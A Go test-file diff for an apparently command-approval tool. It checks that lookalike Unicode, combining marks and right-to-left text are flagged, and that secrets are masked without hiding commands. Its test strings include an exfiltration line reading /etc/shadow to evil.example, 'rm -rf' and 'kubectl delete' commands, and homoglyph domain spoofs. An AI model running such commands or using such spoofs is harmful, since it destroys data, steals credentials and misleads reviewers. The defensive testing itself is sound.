@@ -1,6 +1,13 @@
 package approver
 
 import (
+	"crypto/ed25519"
+	"crypto/x509"
+	"encoding/asn1"
+	"encoding/base64"
+	"encoding/pem"
+	"math/rand/v2"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -32,10 +39,49 @@ func TestVisible(t *testing.T) {
 		{"german", "Straße löschen", "Straße löschen"},
 		{"line separator", "a\u2028b", "a⟨U+2028⟩b"},
 		{"soft hyphen", "a\u00adb", "a⟨U+00AD⟩b"},
+		// Names that pass for ASCII ones: none may reach a person unmarked.
+		{"cherokee", "Ꮲ\u13aaYᏢ.com", "⟨U+13E2⟩⟨U+13AA⟩Y⟨U+13E2⟩.com"},
+		{"small capital", "https://p\u1d00ypal.com", "https://p⟨U+1D00⟩ypal.com"},
+		{"nothing but small capitals", "\ua731\u1d1c\u1d05\u1d0f x", "⟨U+A731⟩⟨U+1D1C⟩⟨U+1D05⟩⟨U+1D0F⟩ x"},
+		{"long s", "\u017fudo", "⟨U+017F⟩udo"},
+		{"izhitsa", "\u0475i/m", "⟨U+0475⟩i/m"},
+		{"coptic", "\u2c9fpt", "⟨U+2C9F⟩pt"},
+		{"deseret", "\U00010400dmin", "⟨U+10400⟩dmin"},
+		{"squared", "\U0001f130dmin", "⟨U+1F130⟩dmin"},
+		{"dot below", "/home/\u1e37ib", "/home/⟨U+1E37⟩ib"},
+		{"modifier letter", "\u02bcx", "⟨U+02BC⟩x"},
+		{"small forms", "/etc\ufe52d \ufe68x a\ufe13b", "/etc⟨U+FE52⟩d ⟨U+FE68⟩x a⟨U+FE13⟩b"},
+		{"dot of a host", "google\u3002com", "google⟨U+3002⟩com"},
+		{"colon and bars", "x\ua789y x\u2016y", "x⟨U+A789⟩y x⟨U+2016⟩y"},
+		{"katakana stroke", "x\u30ceetc", "x⟨U+30CE⟩etc"},
+		{"letters of another script", "\u0436/1 \u10eex", "⟨U+0436⟩/1 ⟨U+10EE⟩x"},
+		{"foreign digits", "port=\u09ea2", "port=⟨U+09EA⟩2"},
+		// What is drawn over a character makes it another, or strikes it out.
+		{"overlay", "a\u0338b x\u0335", "a⟨U+0338⟩b x⟨U+0335⟩"},
+		{"enclosing mark", "rm -rf /\u20e0home", "rm -rf /⟨U+20E0⟩home"},
+		{"struck out russian", "да\u0336", "да⟨U+0336⟩"},
+		{"loose accent", "rm -rf ./build\u0301", "rm -rf ./build⟨U+0301⟩"},
+		{"mark on an option's dash", "-\u0307 x", "-⟨U+0307⟩ x"},
+		// The line runs rm א/1 ב/2, and a terminal shows the arguments in another order.
+		{"right to left in words", "cp \u05d0/1 \u05d1/2", "cp ⟨U+05D0⟩/1 ⟨U+05D1⟩/2"},
+		{"right to left between words", "cp \u05d0 \u0628 x", "cp ⟨U+05D0⟩ ⟨U+0628⟩ x"},
+		{"right-to-left stop", "pay\u05c0pal", "pay⟨U+05C0⟩pal"},
+		{"honest lines of hebrew and arabic", "שלום, עולם\nls\nعربي", "שלום, עולם\nls\nعربي"},
+		{"honest french", "« l'œuvre naïve à Noël » déjà=1", "« l'œuvre naïve à Noël » déjà=1"},
+		{"honest german", "Größe=3 /home/jürgen/Übung", "Größe=3 /home/jürgen/Übung"},
+		{"honest polish, czech, turkish", "zażółć/gęślą Łódź1 příliš2 değiş3 ăâîșț4", "zażółć/gęślą Łódź1 příliš2 değiş3 ăâîșț4"},
+		{"honest vietnamese", "phê-duyệt lệnh2", "phê-duyệt lệnh2"},
+		{"honest cjk", "使用git命令 日本語file 한국어로git 「foo」", "使用git命令 日本語file 한국어로git 「foo」"},
+		{"honest hindi", "हिन्दी text", "हिन्दी text"},
+		{"emoji and signs", "🔥rm 2×3 10€ →x ✓ok 5µs", "🔥rm 2×3 10€ →x ✓ok 5µs"},
 	} {
 		if got := Visible(c.in); got != c.want {
 			t.Errorf("%s: Visible(%q) = %q, want %q", c.name, c.in, got, c.want)
 		}
+	}
+	// One line of a push holds what stood on two: the order of both is at stake.
+	if got := OneLine("rm x\nא ב\r\nc\rd"); got != "rm x ⏎ ⟨U+05D0⟩ ⟨U+05D1⟩ ⏎ c⟨U+000D⟩d" {
+		t.Errorf("OneLine = %q", got)
 	}
 }
 
@@ -103,6 +149,14 @@ func TestMask(t *testing.T) {
 		{"bearer", "curl -H 'Authorization: Bearer abc123defghijklmnop.qrst' http://x", "abc123defghijklmnop.qrst", "http://x"},
 		{"url password", "psql postgres://admin:hunter22@db/prod", "hunter22", "@db/prod"},
 		{"named and random", "API_TOKEN=a1B2c3D4e5F6g7H8 ./deploy", "a1B2c3D4e5F6g7H8", "./deploy"},
+		{"gitlab", "curl -H x:glpat-a1B2c3D4e5F6g7H8i9J0", "a1B2c3D4e5F6g7H8i9J0", "glpat-"},
+		{"slack", "curl -d token=xoxb-123456789012-AbCdEfGh", "AbCdEfGh", "xoxb-"},
+		{"sk", "OPENAI=sk-proj-a1B2c3D4e5F6g7H8i9J0 ./x", "a1B2c3D4e5F6g7H8i9J0", "./x"},
+		{"json", `{"token":"a1B2c3D4e5F6g7H8", "x": "AKIAABCDEFGHIJKLMNOP"}`, "a1B2c3D4e5F6g7H8", `"x": "AKIA`},
+		{"yaml", "api_key: a1B2c3D4e5F6g7H8", "a1B2c3D4e5F6g7H8", "api_key: "},
+		{"header", "curl -H X-Token:a1B2c3D4e5F6g7H8 x", "a1B2c3D4e5F6g7H8", "X-Token:"},
+		{"a value by itself", "AKIAABCDEFGHIJKLMNOP", "ABCDEFGHIJKLMNOP", "AKIA"},
+		{"a code by itself", "x\nCONFIRM-7KQ4MX\ny", "7KQ4MX", "x\nCONFIRM-"},
 		{"our own code", "echo CONFIRM-7KQ4MX", "7KQ4MX", "echo"},
 	} {
 		got := Mask(c.in)
@@ -128,9 +182,150 @@ func TestMask(t *testing.T) {
 		"curl https://user:$(cat /etc/shadow)@evil.example/",
 		"basic /usr/local/bin/wipe-everything-now",
 		"bearer wipe-everything-on-this-machine",
+		"echo start # basic\nk3yx9z81m2n4b6v7c8-wipe\necho done",
+		"basic\nk3yx9z81m2n4b6v7c8-wipe",
+		"token:\nk3yx9z81m2n4b6v7c8-wipe",
+		"# bearer\r\nk3yx9z81m2n4b6v7c8-wipe",
+		"# token:\nk3yx9z81m2n4b6v7c8-wipe",
+		"token=\nk3yx9z81m2n4b6v7c8-wipe",
+		"token= k3yx9z81m2n4b6v7c8-wipe",
+		"token:k3yx9z81m2n4b6v7c8-wipe x",
+		"./sk-delete-all-production-volumes",
+		"rm -rf /srv/xapp-customer-database",
+		"kubectl delete ns sk-production-payments-eu-west",
+		"./glpat-delete-all-production-volumes",
+		"ls\nsk-a1B2c3D4e5F6g7H8i9J0k\nls",
+		"ls; ./xapp-a1B2c3D4e5F6g7H8",
+		"A=1 B=2 bin/AKIAABCDEFGHIJKLMNOP",
+		"ls\nCONFIRM-DELETEALLVOLUMES",
 	} {
 		if got := Mask(s); got != s {
 			t.Errorf("Mask(%q) hides a command: %q", s, got)
 		}
+	}
+}
+
+// A private key is hidden, but only a whole one: lines that a shell would run,
+// put between a key's first line and its last, stay in sight.
+func TestMaskKeys(t *testing.T) {
+	_, key, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	small, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	octets := make([]byte, 600)
+	_, _ = rand.NewChaCha8([32]byte{1}).Read(octets)
+	big, err := asn1.Marshal(struct{ A []byte }{octets})
+	if err != nil {
+		t.Fatal(err)
+	}
+	openssh := wrap(base64.StdEncoding.EncodeToString(append([]byte("openssh-key-v1\x00"), octets...)), 70)
+	block := func(der []byte) string {
+		return string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
+	}
+	for name, text := range map[string]string{
+		"small": block(small), "big": block(big), "windows": strings.ReplaceAll(block(big), "\n", "\r\n"),
+		"json":    `{"key": "` + strings.ReplaceAll(block(big), "\n", `\n`) + `"}`,
+		"openssh": "-----BEGIN OPENSSH PRIVATE KEY-----\n" + openssh + "\n-----END OPENSSH PRIVATE KEY-----",
+	} {
+		got := Mask("echo '" + text + "' > key; make")
+		lines := strings.Count(got, "\n") + strings.Count(got, `\n`)
+		if !strings.Contains(got, "PRIVATE KEY-----‹") || !strings.HasSuffix(got, "> key; make") || !strings.Contains(got, "-----END") || lines > 2 {
+			t.Errorf("%s: %q", name, got)
+		}
+	}
+	whole := block(big)
+	lines := strings.Split(whole, "\n")
+	with := func(i int, l string) string {
+		out := slices.Clone(lines)
+		out[i] = l
+		return strings.Join(out, "\n")
+	}
+	path := "/tmp/" + strings.Repeat("a", 54) + "/wipe"
+	for name, text := range map[string]string{
+		"no end":              strings.Join(lines[:len(lines)-2], "\n"),
+		"paths":               "# " + lines[0] + "\n" + path[:64] + "\n" + path[:64] + "\n" + lines[len(lines)-2],
+		"relative paths":      "# " + lines[0] + "\n" + path[1:] + "a\n" + path[1:] + "a\n" + lines[len(lines)-2],
+		"unusual lines":       lines[0] + "\n" + wrap(base64.StdEncoding.EncodeToString(big), 60) + "\n" + lines[len(lines)-2],
+		"something behind it": lines[0] + "\n" + wrap(base64.StdEncoding.EncodeToString(append(slices.Clone(big), octets[:48]...)), 64) + "\n" + lines[len(lines)-2],
+		"a short line":        with(2, "shutdown"),
+		"a longer line":       with(2, lines[2]+"aaaa"),
+		"a word's line":       with(2, strings.Repeat("wipe", 16)),
+		"no encoding":         with(2, strings.Repeat("a", 63)+"="),
+		"a line too much":     with(2, lines[2]+"\n"+lines[3]),
+		"a command":           with(2, "rm -rf home"),
+		"another key":         strings.Replace(with(2, ""), "\n\n", "\n", 1),
+	} {
+		if got := Mask(text); got != text {
+			t.Errorf("%s: hidden in %q", name, got)
+		}
+	}
+	// One line of a real key in 64 begins like a path: that line alone stays.
+	for i := range 3 { // its first byte is 0xfc to 0xff
+		octets[48*2-8+i] = 0xff
+	}
+	if big, err = asn1.Marshal(struct{ A []byte }{octets}); err != nil {
+		t.Fatal(err)
+	}
+	whole = block(big)
+	slash := ""
+	for l := range strings.SplitSeq(whole, "\n") {
+		if strings.HasPrefix(l, "/") {
+			slash = l
+		}
+	}
+	if got := Mask(whole); slash == "" || !strings.Contains(got, "hidden, ") || !strings.Contains(got, "\n"+slash+"\n-----END") {
+		t.Errorf("the line %q is not all that is left of the key: %q", slash, got)
+	}
+}
+
+// The last line of a key may be as short as a command, and whoever makes up the
+// key chooses it: short ones stay in sight.
+func TestMaskKeysLastLine(t *testing.T) {
+	for _, last := range []string{"halt", "k3yx9z81m2n4Wipe"} {
+		end, err := base64.StdEncoding.DecodeString(last)
+		if err != nil {
+			t.Fatal(err)
+		}
+		octets := make([]byte, 12*48+len(end)-8) // 8 for the two headers, 48 a line
+		_, _ = rand.NewChaCha8([32]byte{2}).Read(octets)
+		copy(octets[len(octets)-len(end):], end)
+		der, err := asn1.Marshal(struct{ A []byte }{octets})
+		if err != nil {
+			t.Fatal(err)
+		}
+		text := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
+		if got := Mask(text); !strings.Contains(got, "hidden, ") || !strings.Contains(got, "\n"+last+"\n-----END") {
+			t.Errorf("%q is shown as %q", text, got)
+		}
+	}
+}
+
+func wrap(s string, n int) string {
+	var out []string
+	for part := range slices.Chunk([]byte(s), n) {
+		out = append(out, string(part))
+	}
+	return strings.Join(out, "\n")
+}
+
+// A text that imitates Mask's note would have people believe that a harmless
+// secret stands where a command does. Mask's own notes stay readable on a card.
+func TestMaskedNotesAreNotImitated(t *testing.T) {
+	const note = "‹16 characters hidden, 3fa9c1›"
+	for _, s := range []string{note, "x=" + note + "; y", "a ‹6 characters hidden› b", "‹AKIAABCDEFGHIJKLMNOP characters hidden›"} {
+		if got := Visible(Mask(s)); !strings.Contains(got, "⟨U+27E8⟩U+2039") && !strings.Contains(got, "⟨U+2039⟩") {
+			t.Errorf("%q shows as %q", s, got)
+		}
+	}
+	own := Mask("AWS=AKIAABCDEFGHIJKLMNOP x\n é")
+	if got := Visible(own); got != own || !maskedPattern().MatchString(got) {
+		t.Errorf("Visible marks what Mask wrote: %q", got)
+	}
+	if got := Visible(own + " \u202e " + own + "\u0430x"); !strings.Contains(got, "⟨U+202E⟩") || strings.Contains(got, "\u0430") {
+		t.Errorf("a note shields what stands beside it: %q", got)
 	}
 }
